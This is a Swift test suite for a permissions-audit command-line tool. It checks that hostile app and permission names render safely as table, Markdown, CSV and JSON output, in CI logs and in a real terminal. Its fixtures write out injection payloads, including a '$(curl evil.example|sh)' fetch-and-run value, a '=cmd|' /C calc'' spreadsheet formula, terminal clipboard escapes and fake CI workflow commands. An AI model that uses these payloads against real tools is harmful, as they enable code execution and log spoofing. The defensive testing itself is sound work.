import Foundation
import PermAuditTestSupport
import Testing

/// The hostile corpus (Tests/Fixtures/hostile): apps, a publisher and a third-party API whose names carry
/// terminal escapes, line breaks, Markdown, HTML, formulas, CI workflow commands, bidi overrides, invisible
/// and lookalike characters. Every output format of every command that shows them is read back the way its
/// reader would: a terminal, a CommonMark parser, a CSV parser, a JSON parser.
@Suite struct HostileOutputTests {
    static let hostile = Fixtures.directory.appendingPathComponent("hostile")

    /// A database with the fixture catalog, the hostile API's catalog and the hostile tenant's two weeks, in a
    /// folder of its own that `body` may use and that is removed afterwards.
    static func withHostileDatabase(_ body: (URL) throws -> Void) throws {
        let folder = try Fixtures.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: folder) }
        let catalog = ["kibali-permissions-2026-08-07.json", "powershell-GraphDelegateRoles-2026-08-19.json"].map(Fixtures.path)
            + [hostile.appendingPathComponent("catalog/evil-api-servicePrincipal-2026-11-02.json").path]
        let imports = [["init", "--no-seed"], ["import"] + catalog]
            + ["2026-11-01", "2026-11-08"].map { day in ["import"] + weekFiles(day) }
        for arguments in imports {
            let run = try Run.permaudit(arguments + ["--db", "db.sqlite", "-q"], in: folder)
            try #require(run.status == 0, "\(arguments): \(run.stderr)")
        }
        try body(folder)
    }

    /// Runs `tmux "$@"` with nothing open but stdin, stdout and stderr, and no signal blocked. The server it
    /// leaves behind must not hold the pipes of the other tests' commands, which run in parallel, or reading
    /// them never ends; and it must get its signals (a process started by Foundation inherits a mask that
    /// blocks them), or it never notices its command ended nor obeys kill-server.
    static let withOnlyStandardFiles = """
        for fd in /proc/$$/fd/*; do n=${fd##*/}; if (( n > 2 )); then eval "exec $n>&-" 2>/dev/null; fi; done
        exec perl -MPOSIX -e 'sigprocmask(SIG_SETMASK, POSIX::SigSet->new); exec @ARGV or die "$!"' tmux "$@"
        """

    static func weekFiles(_ day: String) -> [String] {
        ["organization", "servicePrincipals", "oauth2PermissionGrants", "appRoleAssignments"]
            .map { hostile.appendingPathComponent("\($0)-\(day).json").path }
    }

    /// The commands that show the hostile names, with the rows each must print (one per holding or change).
    static let listings: [(arguments: [String], rows: Int)] = [
        (["report", "--admin-consent"], 27),
        (["diff", "tenant"], 54),
        (["search", "evil"], 4),
        (["query", "SELECT displayName, appId FROM servicePrincipal WHERE appId LIKE '0c0c%' ORDER BY appId"], 28),
        // A first column that is empty: the second one starts the line.
        (["query", "SELECT NULL AS blank, displayName FROM servicePrincipal WHERE appId LIKE '0c0c%' ORDER BY appId"], 28),
    ]

    @Test func tablesShowNoControlCharacterAndFitTheWidth() throws {
        try Self.withHostileDatabase { folder in
            for (arguments, rows) in Self.listings {
                let run = try Run.permaudit(arguments + ["--db", "db.sqlite", "--format", "table"], in: folder, environment: ["COLUMNS": "100"])
                #expect(run.status == 0, "\(arguments): \(run.stderr)")
                HostileChecks.expectNoRawControl(run.stdout, allowing: ["\n"], arguments)
                HostileChecks.expectNoPipelineCommand(run.stdout, arguments)
                let lines = run.stdout.split(separator: "\n")
                #expect(lines.allSatisfy { $0.unicodeScalars.count <= 100 }, "\(arguments)")
                // Each table (diff tenant prints one per kind of change): its lines after the rule, up to a blank line.
                let tables = run.stdout.components(separatedBy: "\n\n").map { $0.split(separator: "\n") }
                let body = tables.map { $0.drop { !$0.hasPrefix("---") }.dropFirst().count }.reduce(0, +)
                #expect(body == rows, "\(arguments)")
                #expect(run.stdout.contains("! text with control, bidi or invisible characters"), "\(arguments)")
            }
        }
    }

    @Test func markdownParsesBackToTheSameRowsAndCells() throws {
        try Self.withHostileDatabase { folder in
            for (arguments, rows) in Self.listings {
                let run = try Run.permaudit(arguments + ["--db", "db.sqlite", "--format", "markdown"], in: folder)
                #expect(run.status == 0, "\(arguments): \(run.stderr)")
                HostileChecks.expectNoRawControl(run.stdout, allowing: ["\n"], arguments)
                HostileChecks.expectNoPipelineCommand(run.stdout, arguments)
                let html = try HostileChecks.commonMark(run.stdout, in: folder)
                let tableLines = run.stdout.split(separator: "\n").filter { $0.hasPrefix("|") }
                let columns = tableLines[1].components(separatedBy: "---").count - 1
                #expect(tableLines.count == rows + 2, "\(arguments)")
                #expect(html.components(separatedBy: "<tr>").count - 1 == rows + 1, "\(arguments)")
                #expect(html.components(separatedBy: "<td>").count - 1 == rows * columns, "\(arguments)")
                HostileChecks.expectNoMarkup(html, arguments)
            }
        }
    }

    @Test func csvAndTsvCellsNeverStartAFormula() throws {
        try Self.withHostileDatabase { folder in
            for (arguments, rows) in Self.listings {
                let csv = try Run.permaudit(arguments + ["--db", "db.sqlite", "--format", "csv"], in: folder)
                #expect(csv.status == 0, "\(arguments): \(csv.stderr)")
                HostileChecks.expectNoRawControl(csv.stdout, allowing: ["\r\n"], arguments)
                HostileChecks.expectNoPipelineCommand(csv.stdout, arguments)
                let table = HostileChecks.parseCSV(csv.stdout)
                #expect(table.count == rows + 1 && table.allSatisfy { $0.count == table[0].count }, "\(arguments)")
                #expect(table.joined().allSatisfy { !HostileChecks.startsFormula($0) }, "\(arguments)")

                let tsv = try Run.permaudit(arguments + ["--db", "db.sqlite", "--format", "tsv"], in: folder)
                let tsvRows = tsv.stdout.components(separatedBy: "\r\n").dropLast().map { $0.components(separatedBy: "\t") }
                #expect(tsvRows.count == rows + 1 && tsvRows.allSatisfy { $0.count == tsvRows[0].count }, "\(arguments)")
                #expect(tsvRows.joined().allSatisfy { !HostileChecks.startsFormula($0) }, "\(arguments)")
            }
        }
    }

    /// --raw-cells gives the values as stored: a formula is kept, and the CSV still parses to the same cells.
    @Test func rawCellsKeepTheStoredValues() throws {
        try Self.withHostileDatabase { folder in
            let run = try Run.permaudit(["report", "--admin-consent", "--db", "db.sqlite", "--format", "csv", "--raw-cells"], in: folder)
            let table = HostileChecks.parseCSV(run.stdout)
            let names = Set(table.map { $0[4] })
            #expect(names.contains("=cmd|' /C calc'!A0"))
            #expect(names.contains("Forge\n::error title=All clear::no findings"))
            #expect(names.contains("Micro\u{202E}tfos Graph"))
        }
    }

    @Test func jsonCarriesTheFullValuesAndTheirFlags() throws {
        try Self.withHostileDatabase { folder in
            let run = try Run.permaudit(["report", "--admin-consent", "--db", "db.sqlite", "--format", "json"], in: folder)
            HostileChecks.expectNoRawControl(run.stdout, allowing: ["\n"], ["report", "json"])
            HostileChecks.expectNoPipelineCommand(run.stdout, ["report", "json"])
            let rows = try #require(try JSONSerialization.jsonObject(with: Data(run.stdout.utf8)) as? [[String: Any]])
            #expect(rows.count == 27)
            let byName = Dictionary(rows.map { ($0["clientDisplayName"] as? String ?? "", $0) }) { first, _ in first }
            #expect(byName["Micro\u{202E}tfos Graph"]?["textFlags"] as? String == "clientDisplayName (bidi control)")
            #expect(byName["Micro\u{200B}soft Graph"]?["textFlags"] as? String == "clientDisplayName (invisible character)")
            #expect(byName["Micr\u{43E}soft Graph"]?["textFlags"] as? String == "clientDisplayName (mixed scripts)")
            #expect(byName["Clear \u{1B}[2J\u{1B}[H Screen"] != nil)
            #expect(byName["Plain Reporting App"] == nil)
            #expect(rows.filter { $0["textFlags"] is NSNull }.count == 10)
        }
    }

    @Test func showsPagesAreSafeInEveryFormat() throws {
        try Self.withHostileDatabase { folder in
            for name in ["CallDelegation.ReadWrite", "Evil.\u{1B}[2J.Read", "Mail.Read\"$(curl evil.example|sh)"] {
                let text = try Run.permaudit(["show", name, "--db", "db.sqlite", "--format", "table"], in: folder)
                #expect(text.status == 0, "\(text.stderr)")
                HostileChecks.expectNoRawControl(text.stdout, allowing: ["\n"], ["show", name])
                HostileChecks.expectNoPipelineCommand(text.stdout, ["show", name])
                if name.contains("$(") {
                    #expect(text.stdout.contains("No example: the permission's name or resource holds characters that are not safe inside code."))
                }

                let markdown = try Run.permaudit(["show", name, "--db", "db.sqlite", "--format", "markdown"], in: folder)
                HostileChecks.expectNoRawControl(markdown.stdout, allowing: ["\n"], ["show", name, "markdown"])
                let html = try HostileChecks.commonMark(markdown.stdout, in: folder)
                let tableLines = markdown.stdout.split(separator: "\n").filter { $0.hasPrefix("|") }
                let separators = tableLines.filter { $0.hasPrefix("| ---") }.count
                #expect(html.components(separatedBy: "<tr>").count - 1 == tableLines.count - separators, "\(name)")
                HostileChecks.expectNoMarkup(html, ["show", name])

                let csv = try Run.permaudit(["show", name, "--db", "db.sqlite", "--format", "csv"], in: folder)
                HostileChecks.expectNoRawControl(csv.stdout, allowing: ["\r\n"], ["show", name, "csv"])
                #expect(HostileChecks.parseCSV(csv.stdout).joined().allSatisfy { !HostileChecks.startsFormula($0) })

                let json = try Run.permaudit(["show", name, "--db", "db.sqlite", "--format", "json"], in: folder)
                HostileChecks.expectNoRawControl(json.stdout, allowing: ["\n"], ["show", name, "json"])
                #expect((try? JSONSerialization.jsonObject(with: Data(json.stdout.utf8))) != nil)
            }
            let holders = try Run.permaudit(["show", "CallDelegation.ReadWrite", "--db", "db.sqlite", "--format", "table"], in: folder)
            #expect(holders.stdout.contains("!Micro\\u202etfos Graph (thirdParty): AllPrincipals  [! clientDisplayName (bidi control)]"))
        }
    }

    /// --fail-on's stderr is read by CI runners: every failure is one line, none a workflow command.
    @Test func gateFailuresAreOneLineEach() throws {
        try Self.withHostileDatabase { folder in
            let run = try Run.permaudit(["diff", "tenant", "--db", "db.sqlite", "--fail-on", "third-party-admin-consent", "--format", "json"],
                                        in: folder)
            #expect(run.status == 1)
            HostileChecks.expectNoRawControl(run.stderr, allowing: ["\n"], ["gate"])
            HostileChecks.expectNoPipelineCommand(run.stderr, ["gate"])
            let lines = run.stderr.split(separator: "\n")
            #expect(lines.first == "permaudit: --fail-on: 27 holdings failed:")
            #expect(lines.count == 28)
            #expect(lines.dropFirst().allSatisfy { $0.hasPrefix("  third-party-admin-consent: ") })
        }
    }

    /// A name of 100,000 characters: every table still fits the terminal.
    @Test func aHugeNameDoesNotWidenTables() throws {
        try Self.withHostileDatabase { folder in
            let file = folder.appendingPathComponent("servicePrincipals-2026-11-15.json")
            let week2 = try String(contentsOf: Self.hostile.appendingPathComponent("servicePrincipals-2026-11-08.json"), encoding: .utf8)
            try week2.replacingOccurrences(of: "\"Plain Reporting App\"", with: "\"" + String(repeating: "W", count: 100_000) + "\"")
                .write(to: file, atomically: true, encoding: .utf8)
            let others = Self.weekFiles("2026-11-08").filter { !$0.contains("servicePrincipals") }
            let run = try Run.permaudit(["import", "--db", "db.sqlite", "-q", "--as-of", "2026-11-15", file.path] + others, in: folder)
            try #require(run.status == 0, "\(run.stderr)")
            for arguments in [["diff", "tenant"], ["report", "--admin-consent", "--min-risk", "low"], ["query", "SELECT * FROM servicePrincipal"]] {
                let table = try Run.permaudit(arguments + ["--db", "db.sqlite", "--format", "table"], in: folder, environment: ["COLUMNS": "100"])
                #expect(table.stdout.split(separator: "\n").allSatisfy { $0.unicodeScalars.count <= 100 }, "\(arguments)")
            }
        }
    }

    /// A NUL inside a name is shown, never cut at: "Evil\u0000App" must not read as "Evil".
    @Test func namesWithNULBytesShowWhole() throws {
        let folder = try Fixtures.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: folder) }
        for arguments in [["init", "--no-seed"], ["import", Fixtures.path("powershell-GraphDelegateRoles-2026-08-19.json")],
                          ["import", "--tenant", "t", Self.hostile.appendingPathComponent("nul-in-names").path]] {
            let run = try Run.permaudit(arguments + ["--db", "db.sqlite", "-q"], in: folder)
            try #require(run.status == 0, "\(run.stderr)")
        }
        let table = try Run.permaudit(["report", "--admin-consent", "--db", "db.sqlite", "--format", "table"], in: folder)
        #expect(table.stdout.contains("!Evil\\u0000App  thirdParty  !Evil\\u0000.Scope"), "\(table.stdout)")
        let json = try Run.permaudit(["report", "--admin-consent", "--db", "db.sqlite", "--format", "json"], in: folder)
        let rows = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [[String: Any]])
        #expect(Set(rows.compactMap { $0["clientDisplayName"] as? String }) == ["Evil\u{0}App"])
        #expect(rows.contains { $0["permission"] as? String == "Evil\u{0}.Scope" })
    }

    /// Error lines quote file names and JSON paths, which come from the files: one line, nothing raw.
    @Test func errorLinesShowControlCharactersVisibly() throws {
        let folder = try Fixtures.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: folder) }
        let name = "evil\u{1B}]52;c;eA==\u{07}\n::error::x.json"
        try Data("{\"value\": [".utf8).write(to: folder.appendingPathComponent(name))
        let run = try Run.permaudit(["import", "--db", "db.sqlite", "-q", name], in: folder)
        #expect(run.status == 2)
        #expect(run.stderr.split(separator: "\n").count == 1)
        HostileChecks.expectNoRawControl(run.stderr, allowing: ["\n"], ["error"])
        #expect(run.stderr.hasPrefix("permaudit: evil\\u001b]52;c;eA==\\u0007\\u000a::error::x.json: "))
    }

    /// What an auditor sees: the report in a real terminal (tmux), every row on the screen, nothing wiped,
    /// moved or hidden by the names' escapes.
    @Test func everyRowIsOnTheScreenOfARealTerminal() throws {
        try Self.withHostileDatabase { folder in
            let session = "permaudit-hostile-\(UUID().uuidString.prefix(8))"
            let tmux = URL(fileURLWithPath: "/usr/bin/tmux")
            let command = "\(Run.binary.path) report --admin-consent --db db.sqlite --format table; sleep 20"
            // A server of its own (-L), no user configuration (-f); it must not inherit our pipes, or reading them
            // would wait for it to end. It ends by itself when the command's sleep does, should killing it fail.
            let server = ["-L", session, "-f", "/dev/null"]
            let start = try Run.program(URL(fileURLWithPath: "/bin/bash"), ["-c", Self.withOnlyStandardFiles, "tmux"] + server + ["new-session", "-d", "-s", session, "-x", "160", "-y", "60", "-c", folder.path,
                                                        command],
                                        in: folder, detached: true)
            try #require(start.status == 0, "tmux is needed for this test (README, Install): \(start.stderr)")
            defer { _ = try? Run.program(tmux, server + ["kill-server"], in: folder) }
            var screen = ""
            for _ in 0..<100 {
                let capture = try Run.program(tmux, server + ["capture-pane", "-p", "-t", session], in: folder)
                screen = capture.stdout + capture.stderr
                if screen.contains("set by:") || screen.contains("! text with") { break }
                Thread.sleep(forTimeInterval: 0.1)
            }
            let lines = screen.split(separator: "\n", omittingEmptySubsequences: false)
            #expect(lines.first?.hasPrefix("app ") == true, "the header is the first line on screen:\n\(screen)")
            #expect(lines.filter { $0.contains("all users") }.count == 27, "\(screen)")
            for prefix in ["!Clear \\u001b[2J", "!Cursor \\u001b[1A", "!Clip \\u001b]52", "!Link \\u001b]8", "!Unterminated \\u001b]0",
                           "!CSI \\u009b2J", "!Lone\\u000dCR", "!Forge\\u000a::error", "\\u003a:add-mask", "!Micro\\u202etfos",
                           "!Markdown\\u000d# All", "=cmd|' /C calc'!A0"] {
                #expect(lines.contains { $0.hasPrefix(prefix) }, "\(prefix) not on screen:\n\(screen)")
            }
            #expect(lines.allSatisfy { $0.count <= 160 })
        }
    }
}

/// The checks a reader of each format would make.
enum HostileChecks {
    /// No C0 or C1 control, DEL, line separator, bidi control or invisible character, but the allowed line ends.
    static func expectNoRawControl(_ text: String, allowing: [String], _ context: [String], sourceLocation: SourceLocation = #_sourceLocation) {
        var stripped = text
        for allowed in allowing { stripped = stripped.replacingOccurrences(of: allowed, with: "") }
        let raw = stripped.unicodeScalars.first { scalar in
            let value = scalar.value
            return value < 0x20 || (0x7F...0x9F).contains(value) || value == 0x2028 || value == 0x2029
                || value >= 0x80 && (scalar.properties.isBidiControl
                    || scalar.properties.isDefaultIgnorableCodePoint && value != 0xFE0F && value != 0x200D)
        }
        #expect(raw == nil, "\(context): raw U+\(String(raw?.value ?? 0, radix: 16))", sourceLocation: sourceLocation)
    }

    /// No line a CI runner reads as a command: `::` at its start after any white space (Unicode's too, as
    /// .NET's TrimStart drops it), `##[` or `##vso[` anywhere.
    static func expectNoPipelineCommand(_ text: String, _ context: [String], sourceLocation: SourceLocation = #_sourceLocation) {
        for line in text.split(separator: "\n") {
            let start = line.drop(while: \.isWhitespace)
            #expect(!start.hasPrefix("::") && !line.contains("##[") && !line.contains("##vso["), "\(context): \(line)",
                    sourceLocation: sourceLocation)
        }
    }

    /// GitHub-flavoured Markdown to HTML with cmark-gfm (README, Install), its table and autolink extensions on.
    static func commonMark(_ markdown: String, in folder: URL) throws -> String {
        let file = folder.appendingPathComponent("out-\(UUID().uuidString).md")
        try Data(markdown.utf8).write(to: file)
        defer { try? FileManager.default.removeItem(at: file) }
        let run = try Run.program(URL(fileURLWithPath: "/usr/bin/cmark-gfm"),
                                  ["-e", "table", "-e", "autolink", "-e", "strikethrough", "-e", "tagfilter", file.path], in: folder)
        try #require(run.status == 0, "cmark-gfm is needed for this test (README, Install): \(run.stderr)")
        return run.stdout
    }

    /// No link, image, heading or HTML made from the names.
    static func expectNoMarkup(_ html: String, _ context: [String], sourceLocation: SourceLocation = #_sourceLocation) {
        for tag in ["<a ", "<img", "<h1", "raw HTML omitted", "<b>", "<del>"] {
            #expect(!html.contains(tag), "\(context): \(tag)", sourceLocation: sourceLocation)
        }
    }

    static func startsFormula(_ cell: String) -> Bool {
        guard let first = cell.unicodeScalars.first else { return false }
        return ["=", "+", "-", "@", "\t", "\r"].contains(first)
    }

    /// RFC 4180: fields separated by commas, records by CRLF, quoted fields with doubled quotes inside.
    static func parseCSV(_ text: String) -> [[String]] {
        var records: [[String]] = [], record: [String] = [], field = "", quoted = false
        var scalars = text.unicodeScalars.makeIterator()
        var pending: Unicode.Scalar? = nil
        while let scalar = pending ?? scalars.next() {
            pending = nil
            if quoted {
                if scalar == "\"" {
                    let next = scalars.next()
                    if next == "\"" { field += "\"" } else { quoted = false; pending = next }
                } else { field.unicodeScalars.append(scalar) }
            } else if scalar == "\"" {
                quoted = true
            } else if scalar == "," {
                record.append(field); field = ""
            } else if scalar == "\r" {
                continue
            } else if scalar == "\n" {
                record.append(field); records.append(record); record = []; field = ""
            } else {
                field.unicodeScalars.append(scalar)
            }
        }
        return records
    }
}

/// A reader that goes away (`permaudit ... | head -1`), with SIGPIPE ignored as many harnesses and Python's
/// subprocess do: the command ends quietly, exit 0, where it crashed with a stack trace (exit 132).
@Suite struct ClosedOutputTests {
    @Test func aClosedOutputEndsTheCommandQuietly() throws {
        let folder = try Fixtures.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: folder) }
        _ = try Run.permaudit(["init", "--no-seed", "--db", "db.sqlite", "-q"], in: folder)
        // 300,000 rows: far more than a pipe holds, so writing goes on after `head` has gone.
        let query = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT 300000) SELECT x FROM c"
        let script = "trap '' PIPE; \"$0\" query --db db.sqlite --format csv \"$1\" 2>err.txt | head -c 5 >/dev/null; echo ${PIPESTATUS[0]}"
        let run = try Run.program(URL(fileURLWithPath: "/bin/bash"), ["-c", script, Run.binary.path, query], in: folder)
        #expect(run.stdout == "0\n")
        #expect(try String(contentsOf: folder.appendingPathComponent("err.txt"), encoding: .utf8) == "")
    }
}
